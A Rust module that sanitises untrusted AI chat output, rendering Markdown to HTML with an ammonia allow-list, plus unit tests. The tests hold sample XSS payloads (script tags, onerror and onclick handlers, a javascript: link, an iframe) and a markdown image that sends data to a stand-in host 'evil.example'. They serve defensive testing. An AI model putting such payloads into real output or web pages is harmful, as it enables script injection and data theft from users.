//! Model output is untrusted: Markdown is rendered to HTML with raw HTML disabled, then sanitised with `ammonia`
//! (an allow-list of tags, links only http(s)/mailto with `rel="noopener noreferrer nofollow"`, no images — a
//! remote image in model output is how chat UIs leak data). The same code runs on the server (history, SSR) and in
//! the browser (streamed answers).
use std::sync::OnceLock;

use pulldown_cmark::{Event, Options, Parser, html};

fn sanitizer() -> &'static ammonia::Builder<'static> {
    static BUILDER: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    BUILDER.get_or_init(|| {
        let mut b = ammonia::Builder::default();
        b.tags(
            [
                "p",
                "br",
                "hr",
                "strong",
                "em",
                "del",
                "code",
                "pre",
                "blockquote",
                "ul",
                "ol",
                "li",
                "h1",
                "h2",
                "h3",
                "h4",
                "h5",
                "h6",
                "table",
                "thead",
                "tbody",
                "tr",
                "th",
                "td",
                "a",
            ]
            .into_iter()
            .collect(),
        )
        .url_schemes(["http", "https", "mailto"].into_iter().collect())
        .link_rel(Some("noopener noreferrer nofollow"))
        .tag_attributes(
            [
                ("a", ["href"].into_iter().collect()),
                ("th", ["align"].into_iter().collect()),
                ("td", ["align"].into_iter().collect()),
            ]
            .into_iter()
            .collect(),
        )
        .add_generic_attributes(std::iter::empty::<&str>())
        .url_relative(ammonia::UrlRelative::Deny);
        b
    })
}

/// Safe HTML for `markdown`.
pub fn render(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    // Raw HTML in the model's text is shown as text, never interpreted.
    let events = Parser::new_ext(markdown, options).map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        other => other,
    });
    let mut unsafe_html = String::with_capacity(markdown.len() * 2);
    html::push_html(&mut unsafe_html, events);
    sanitizer().clean(&unsafe_html).to_string()
}

#[cfg(test)]
mod tests {
    use super::render;

    #[test]
    fn markdown_renders_tables_code_and_safe_links() {
        let html =
            render("**NOVA** closed at `182.4`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.com)");
        assert!(html.contains("<strong>NOVA</strong>"));
        assert!(html.contains("<code>182.4</code>"));
        assert!(html.contains("<table>") && html.contains("<td>1</td>"));
        assert!(
            html.contains(r#"<a href="https://example.com" rel="noopener noreferrer nofollow">site</a>"#),
            "{html}"
        );
    }

    /// The tags of an HTML string (text between `<` and `>`; escaped text has no `<`).
    fn tags(html: &str) -> Vec<String> {
        html.split('<').skip(1).filter_map(|rest| rest.split_once('>').map(|(tag, _)| tag.to_lowercase())).collect()
    }

    #[test]
    fn scripts_handlers_images_and_bad_links_never_survive() {
        for attack in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![exfil](https://evil.example/leak?data=secret)",
            "[click](javascript:alert(1))",
            "<a href=\"https://evil.example\" onclick=\"steal()\">x</a>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "[rel](/relative/path)",
        ] {
            let html = render(attack);
            for tag in tags(&html) {
                let name = tag.trim_start_matches('/').split_whitespace().next().unwrap_or_default().to_owned();
                assert!(["p", "a", "strong", "em", "code"].contains(&name.as_str()), "{attack:?} produced <{tag}>");
                assert!(!tag.contains(" on"), "{attack:?} produced an event handler: <{tag}>");
                assert!(!tag.contains("javascript:") && !tag.contains("/relative") && !tag.contains("leak"), "<{tag}>");
            }
        }
        // Raw HTML is shown as text.
        assert!(render("<b>bold?</b>").contains("&lt;b&gt;"));
    }
}
